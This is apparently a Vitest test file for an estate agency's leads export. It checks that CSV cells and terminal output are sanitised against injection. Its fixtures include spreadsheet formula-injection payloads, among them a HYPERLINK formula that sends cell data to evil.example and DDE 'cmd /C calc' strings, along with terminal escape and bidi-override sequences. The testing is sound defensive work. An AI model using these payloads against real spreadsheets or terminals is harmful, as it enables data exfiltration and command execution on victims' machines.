import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { getAppointmentSlots, getProperties } from '@/lib/catalogue';
import { getAgencyLanguage, getDefaultLanguage } from '@/lib/config';
import { claimDueJobs, closeStore, markDelivered, openStore, storeRequest, type NewRequest, type Store, type StoredRequest } from '@/lib/db';
import { translatorFor } from '@/lib/i18n/messages';
import { deliveryByRequest, leadLines, leadsCsv } from '@/lib/leads/report';
import { csvCell, terminalText } from '@/lib/leads/safe-text';
import { freshPostgresUrl } from './test-stores';

/** RFC 4180, as a spreadsheet reads the file: quoted cells may hold separators, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index];
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += character;
  }
  return rows;
}

const formulaStart = /^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+32 475 12 34 56',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uff1dHYPERLINK("http://evil.example")',
  'Dubois, "Marie"; Mons',
  'line one\nline two',
  '\u001b[31mred\u001b[0m',
  'abc\u202edcba',
];

describe('a CSV cell', () => {
  it.each(hostile)('reads back as the text it was, never as a formula: %j', (value) => {
    const [[cell]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
    expect(cell).not.toMatch(formulaStart);
    expect(cell).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  });

  it("keeps a `'` before a formula and the rest of the text as it was", () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('Mons')).toBe('Mons');
    expect(csvCell('Mons; Namur')).toBe('"Mons; Namur"');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('terminal text', () => {
  it('drops escape sequences, control characters and bidi overrides', () => {
    expect(terminalText('\u001b[31mMarie\u001b[0m')).toBe('Marie');
    expect(terminalText('\u001b]0;owned\u0007Marie')).toBe('Marie');
    expect(terminalText('\u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\')).toBe('link');
    expect(terminalText('\u009b2JMarie\u009d0;title\u009c')).toBe('Marie');
    expect(terminalText('Ma\u0007\u0008rie\u007f\u0081')).toBe('Marie');
    expect(terminalText('Marie\u202e eliF\u2066\u2069\u200f')).toBe('Marie eliF');
    expect(terminalText('Marie\r\nDubois\tMons\u2028x\u0085y')).toBe('Marie Dubois Mons x y');
    expect(terminalText('Zoë Müller – Liège')).toBe('Zoë Müller – Liège');
  });
});

const language = getDefaultLanguage();
const forms = translatorFor(language, 'forms');
const columns = translatorFor(language, 'leads');

function stored(form: string, fields: Record<string, unknown>, extra: Partial<StoredRequest> = {}): StoredRequest {
  return {
    id: `request-${form}`,
    form,
    lang: 'fr',
    property_id: null,
    project_id: null,
    email: typeof fields.email === 'string' ? fields.email : null,
    name: [fields.firstName, fields.lastName].filter((part) => typeof part === 'string').join(' ') || null,
    payload: JSON.stringify(fields),
    source: null,
    created_at: '2026-11-20T13:05:00.000Z',
    uploads: [],
    ...extra,
  };
}

describe('the leads CSV', () => {
  const listing = getProperties('fr', { goal: 'sale' }).find((property) => getAppointmentSlots(property.id).length > 0)!;
  const slot = getAppointmentSlots(listing.id)[0]!;
  const requests = [
    stored(
      'contact-appointment',
      {
        propertyId: listing.id,
        title: 'ms',
        firstName: '=HYPERLINK("http://evil.example","Marie")',
        lastName: '@Dubois',
        email: 'marie@example.be',
        phone: '+32 475 12 34 56',
        slotId: slot.ID,
        remark: '\u001b[2J-1+1\nthanks',
        privacy: true,
      },
      { property_id: listing.id, source: '=cmd|"/C calc"!A0' },
    ),
    stored(
      'purchase-offer',
      {
        propertyId: listing.id,
        title: 'mr',
        firstName: 'Jean',
        lastName: 'Martin',
        email: 'jean@example.be',
        phone: '0475 00 00 00',
        personBFirstName: 'Anne',
        personBLastName: 'Martin',
        amount: 250000,
      },
      { property_id: listing.id },
    ),
    stored('demand-register', { title: 'mr', firstName: 'Luc', lastName: 'Peeters', email: 'luc@example.be', phone: '0475 11 11 11', goal: 'sale', passwordHash: 'scrypt$131072$8$1$salt$hash' }),
  ];
  const delivery = deliveryByRequest([
    { request_id: 'request-contact-appointment', status: 'delivered', kind: 'agency-mail', last_error: null },
    { request_id: 'request-contact-appointment', status: 'pending', kind: 'visitor-mail', last_error: null },
    { request_id: null, status: 'pending', kind: 'owner-reset', last_error: null },
  ]);
  const csv = leadsCsv(requests, delivery, language);
  const [header = [], ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
  const column = (row: string[], label: string) => row[header.indexOf(label)];

  it('neutralises every cell a spreadsheet would run as a formula', () => {
    expect(rows).toHaveLength(3);
    for (const row of [header, ...rows]) for (const cell of row) expect(cell).not.toMatch(formulaStart);
    expect(column(rows[0]!, forms('fields.firstName'))).toBe(`'=HYPERLINK("http://evil.example","Marie")`);
    expect(column(rows[0]!, forms('fields.phone'))).toBe("'+32 475 12 34 56");
    expect(column(rows[0]!, columns('columns.page'))).toBe(`'=cmd|"/C calc"!A0`);
    expect(column(rows[0]!, forms('fields.remark'))).toBe("'-1+1\nthanks");
  });

  it('has one labelled column per field, in the agency language, with values spelled out', () => {
    expect(new Set(header).size).toBe(header.length);
    expect(header).not.toContain('name');
    expect(header).not.toContain('passwordHash');
    expect(header.join()).not.toMatch(/scrypt/);
    expect(header).toEqual(expect.arrayContaining([forms('fields.title'), forms('fields.slotId'), columns('columns.personBFirstName'), columns('columns.mailsSent')]));
    const first = rows[0]!;
    expect(column(first, forms('fields.title'))).toBe(forms('options.title.ms'));
    expect(column(first, forms('fields.slotId'))).not.toBe(String(slot.ID));
    expect(column(first, forms('fields.slotId'))).toContain(slot.Start.slice(11, 16));
    expect(column(first, columns('columns.form'))).toBe(forms('names.contact-appointment'));
    expect(column(first, columns('columns.language'))).toBe(forms('languages.fr'));
    expect(column(first, columns('columns.received'))).toBe('20-11-2026 14:05');
    expect(column(first, columns('columns.subject'))).toContain(String(listing.id));
    expect([column(first, columns('columns.mailsSent')), column(first, columns('columns.mailsWaiting'))]).toEqual(['1', '1']);
    expect(column(rows[1]!, columns('columns.personBFirstName'))).toBe('Anne');
    expect(column(rows[1]!, forms('fields.firstName'))).toBe('Jean');
    expect(column(rows[2]!, forms('fields.goal'))).toBe(forms('options.goal.sale'));
  });
});

describe('the leads in a terminal', () => {
  it('prints visitors text without its escape codes', () => {
    const [line] = leadLines([stored('contact-me', { firstName: '\u001b]0;owned\u0007\u001b[8mMarie', lastName: '\u202eDubois', email: 'marie@example.be\u001b[2K' })], new Map());
    expect(line).toContain('Marie Dubois');
    expect(line).toContain('marie@example.be');
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
  });
});

/*
 * npm run leads as staff run it, on the database the site wrote: a SQLite file, or PostgreSQL.
 * The rows come back from each database with the types and order the report expects.
 */
const run = promisify(execFile);
const folder = mkdtempSync(path.join(tmpdir(), 'leads-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const databases: { name: string; url: () => Promise<string> }[] = [
  { name: 'sqlite', url: async () => `file:${path.join(folder, 'site.db')}` },
  ...(process.env.TEST_POSTGRES_URL ? [{ name: 'postgres', url: () => freshPostgresUrl() }] : []),
];

describe.each(databases)('npm run leads on $name', (database) => {
  const keep = async (store: Store, request: NewRequest) => {
    const result = await storeRequest(store, request);
    if (result.status !== 'stored') throw new Error(`not stored: ${result.status}`);
    return result.id;
  };

  it('lists every stored request with its e-mails sent and waiting, in the agency language', { timeout: 180_000 }, async () => {
    const url = await database.url();
    const site = await openStore(url);
    try {
      const listing = getProperties('fr', { goal: 'sale' })[0]!;
      const offer = await keep(site, {
        form: 'contact-me',
        lang: 'fr',
        propertyId: listing.id,
        email: 'marie@example.be',
        name: 'Marie Dubois',
        payload: { propertyId: listing.id, title: 'ms', firstName: '=Marie', lastName: 'Dubois', email: 'marie@example.be', phone: '0475 12 34 56', remark: 'Encore libre ?', privacy: true },
        jobs: ['agency-mail', 'visitor-mail'],
      });
      await keep(site, {
        form: 'site-contact',
        lang: 'nl',
        email: 'jan@example.be',
        name: 'Jan Peeters',
        payload: { firstName: 'Jan', lastName: 'Peeters', email: 'jan@example.be', remark: 'Dag' },
        jobs: ['agency-mail'],
      });
      // The agency's copy of the first request is sent; its confirmation to the visitor waits.
      const [sent] = await claimDueJobs(site, { limit: 1, leaseMs: 60_000, requestId: offer, kinds: ['agency-mail'] });
      await markDelivered(site, sent!.id);
    } finally {
      await closeStore(site);
    }

    const env = { ...process.env, DATABASE_URL: url };
    const { stdout } = await run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--csv'], { env });
    const agency = translatorFor(getAgencyLanguage(), 'leads');
    const agencyForms = translatorFor(getAgencyLanguage(), 'forms');
    const [header = [], ...rows] = parseCsv(stdout.replace(/^\uFEFF/, ''));
    const column = (row: string[], key: Parameters<typeof agency>[0]) => row[header.indexOf(agency(key))];
    const byForm = Object.fromEntries(rows.map((row) => [column(row, 'columns.form'), row]));
    expect(rows).toHaveLength(2);
    const offerRow = byForm[agencyForms('names.contact-me')]!;
    expect([column(offerRow, 'columns.mailsSent'), column(offerRow, 'columns.mailsWaiting')]).toEqual(['1', '1']);
    expect(column(offerRow, 'columns.received')).toMatch(/^\d\d-\d\d-\d{4} \d\d:\d\d$/);
    expect(offerRow).toContain("'=Marie");
    const contactRow = byForm[agencyForms('names.site-contact')]!;
    expect([column(contactRow, 'columns.mailsSent'), column(contactRow, 'columns.mailsWaiting')]).toEqual(['0', '1']);

    const pending = await run(process.execPath, ['--import', 'tsx', 'scripts/leads.ts', '--pending'], { env });
    expect(pending.stdout).toContain('2 of 2 requests with e-mail waiting.');
  });
});
